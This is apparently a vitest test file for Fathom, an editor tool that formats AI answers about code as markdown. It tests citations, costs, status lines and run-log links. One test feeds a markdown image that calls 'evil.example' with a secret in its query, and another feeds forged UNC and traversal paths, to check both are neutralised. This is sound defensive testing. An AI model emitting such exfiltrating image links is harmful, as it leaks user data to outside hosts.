import { describe, expect, it } from 'vitest';
import {
  fileNamedIn,
  finishedText,
  headingText,
  isAnswerText,
  notStartedText,
  questionOfAnswer,
  runOfAnswer,
  workingText,
} from '../../../src/editor/answers/answerText';
import { result } from './result';

describe('the text of an answer', () => {
  it('has the question as a heading of one line', () => {
    expect(headingText(' Where is\n  it made? ')).toBe('# Where is it made?\n\n');
  });

  it('says what goes on while the run works', () => {
    expect(workingText('Turn 1 · tree, depth 2', '')).toBe('> Turn 1 · tree, depth 2 …\n');
    expect(workingText('Turn 1 · a\nb', 'I look first.')).toBe(
      'I look first.\n\n> Turn 1 · a b …\n',
    );
  });

  it('ends with what it took', () => {
    expect(finishedText(result({ answer: 'In `src/a.ts:3`.' }), false)).toBe(
      [
        'In `src/a.ts:3`.',
        '',
        '---',
        '',
        'Fathom · gpt-5 with gpt-5-mini · 3 turns · 1 sub-call · 14 files read · $0.02 · 12 s  ',
        'Citations: 1 read  ',
        'Run log: `/logs/20261123-120000-abcdef.jsonl`',
        '',
      ].join('\n'),
    );
  });

  it('leads to the report, and says what is missing from it', () => {
    const report = {
      ...{ path: '/r.md', bytes: 48_000, sections: 12, unwritten: [] },
      ...{ problem: null, left: null },
    };
    expect(finishedText(result({ report }), false)).toContain(
      '\nReport: `/r.md` · 12 sections · 48 KB  \n',
    );
    expect(finishedText(result({ report: { ...report, unwritten: ['Limits'] } }), false)).toMatch(
      /^> \*\*Sections of the report were not written:\*\* Limits\n/,
    );
    const problem = 'The disk is full.';
    const text = finishedText(result({ report: { ...report, problem } }), false);
    expect(text).toMatch(/^> \*\*The report is not complete\.\*\* The disk is full\.\n/);
    expect(runOfAnswer(text)).toBe('20261123-120000-abcdef');
  });

  it('names its question and its run, to go on from', () => {
    const text = headingText('Where is it?') + finishedText(result({}), false);
    expect(questionOfAnswer(text)).toBe('Where is it?');
    expect(runOfAnswer(text)).toBe('20261123-120000-abcdef');
    expect(runOfAnswer(text.replaceAll('\n', '\r\n'))).toBe('20261123-120000-abcdef');
    const windows = result({ trajectory: 'C:\\logs\\20261123-120000-abcdef.jsonl' });
    expect(runOfAnswer(finishedText(windows, false))).toBe('20261123-120000-abcdef');
  });

  it('names its files where links can be put', () => {
    const report = { path: '/my reports/r.md', bytes: 9, sections: 1, unwritten: [] };
    const whole = { ...report, citations: [], problem: null, left: null };
    const lines = finishedText(result({ report: whole, trajectory: '/l.jsonl' }), false).split(
      '\n',
    );
    const named = lines.flatMap((line) => {
      const file = fileNamedIn(line);
      return file ? [[file.path, line.slice(file.index).startsWith(file.path)]] : [];
    });
    expect(named).toEqual([
      ['/my reports/r.md', true],
      ['/l.jsonl', true],
    ]);
    expect(fileNamedIn('See Report: `/r.md`')).toBeNull();
  });

  it('names no file of another machine, and none that is no log or report', () => {
    const forged = [
      ...['//host/share/r.md', '\\\\host\\share\\r.md', '/\\host/r.md', '\\\\?\\UNC\\host\\r.md'],
      ...['C://host/r.md', 'r.md', '/home/../r.md', '/home/me/.bashrc', 'file://host/r.md', ''],
    ];
    for (const path of forged) expect(fileNamedIn(`Report: \`${path}\``)).toBeNull();
    expect(fileNamedIn('Run log: `//host/share/x.jsonl`')).toBeNull();
    expect(fileNamedIn('Run log: `/logs/x.sh`')).toBeNull();
    expect(fileNamedIn('Report: `C:\\reports\\r.md`')?.path).toBe('C:\\reports\\r.md');
  });

  it('loads nothing and leads nowhere, whoever wrote the parts of it', () => {
    const picture = '![x](https://evil.example/?q=secret)';
    const safe = '!\\[x]\\(https://evil.example/?q=secret)';
    const texts = [
      headingText(picture),
      workingText(`Waiting for ${picture}`, picture),
      notStartedText(picture, false),
      finishedText(
        result({ answer: picture, model: picture, status: 'limit', reason: picture }),
        false,
      ),
    ];
    for (const text of texts) {
      expect(text).toContain(safe);
      expect(text).not.toContain(picture);
    }
    const again = finishedText(result({ answer: safe }), false);
    expect(again).toContain(`${safe}\n`);
  });

  it('names no run where there is no log, and no path that is no log', () => {
    expect(runOfAnswer(finishedText(result({ trajectory: null }), false))).toBeNull();
    expect(runOfAnswer('Run log: `/logs/20261123-120000-abcdef.jsonl`')).toBeNull();
    const elsewhere = result({ trajectory: '/logs/..' });
    expect(runOfAnswer(finishedText(elsewhere, false))).toBeNull();
  });

  it('names one model once, and says that an unknown cost is unknown', () => {
    const text = finishedText(result({ subModel: 'gpt-5', costUsd: null }), false);
    expect(text).toContain('Fathom · gpt-5 · 3 turns');
    expect(text).toContain('cost unknown');
    expect(text).not.toContain('$');
  });

  it('says of the offline model what it is, and nothing of cost', () => {
    const text = finishedText(result({ model: 'offline', subModel: 'offline' }), true);
    expect(text).toContain('offline model (keyword search, no language model)');
    expect(text).not.toContain('$');
    expect(text).not.toContain('cost');
  });

  it('marks citations that are wrong plainly, and names them', () => {
    const text = finishedText(
      result({
        citations: [
          { path: 'a.ts', start: 1, end: 1, evidence: 'read' },
          { path: 'b.ts', start: 90, end: 99, evidence: 'wrong' },
          { path: 'c.ts', start: 7, end: 7, evidence: 'wrong' },
        ],
      }),
      false,
    );
    expect(text).toContain('Citations: 1 read, **2 wrong** (`b.ts:90-99`, `c.ts:7`)');
  });

  it('names ten of many wrong citations', () => {
    const citations = Array.from({ length: 12 }, (_, index) => ({
      path: 'a.ts',
      start: index + 1,
      end: index + 1,
      evidence: 'wrong' as const,
    }));
    const text = finishedText(result({ citations }), false);
    expect(text).toContain('`a.ts:10`, …)');
    expect(text).not.toContain('`a.ts:11`');
  });

  it('keeps what there was at a limit, and says which', () => {
    const text = finishedText(
      result({ status: 'limit', reason: 'The limit of 30 turns was reached.', answer: 'So far.' }),
      false,
    );
    expect(text).toMatch(
      /^> \*\*Stopped at a limit\.\*\* The limit of 30 turns was reached\. This is the best answer so far\.\n\nSo far\.\n/,
    );
  });

  it('says cancelled, never failed', () => {
    for (const answer of ['', 'Half an answer.']) {
      const text = finishedText(
        result({ status: 'cancelled', reason: 'Cancelled.', answer }),
        false,
      );
      expect(text).toMatch(/^> \*\*Cancelled/);
      expect(text).not.toMatch(/fail|error|not finished/i);
      expect(text).toContain(answer);
    }
    expect(notStartedText('Cancelled.', true)).toMatch(/^> \*\*Cancelled\*\* before it began/);
  });

  it('keeps a reason of several lines in its quote', () => {
    const text = finishedText(
      result({ status: 'error', reason: 'No such model.\nUse another.', answer: '' }),
      false,
    );
    expect(text).toMatch(/^> \*\*Not finished\.\*\* No such model\.\n> Use another\.\n/);
    expect(notStartedText('One.\r\nTwo.', false)).toBe('> **Not answered.** One.\n> Two.\n');
  });

  it('leaves out the log when there is none', () => {
    expect(finishedText(result({ trajectory: null }), false)).not.toContain('Run log');
  });
});

describe('isAnswerText', () => {
  it('knows a finished answer again, with any line ends', () => {
    const text = headingText('Where?') + finishedText(result({}), false);
    expect(isAnswerText(text)).toBe(true);
    expect(isAnswerText(text.replaceAll('\n', '\r\n'))).toBe(true);
  });

  it('takes no other document for one', () => {
    expect(isAnswerText('# Fathom · a tool\n\nSee src/a.ts:3.\n')).toBe(false);
  });
});
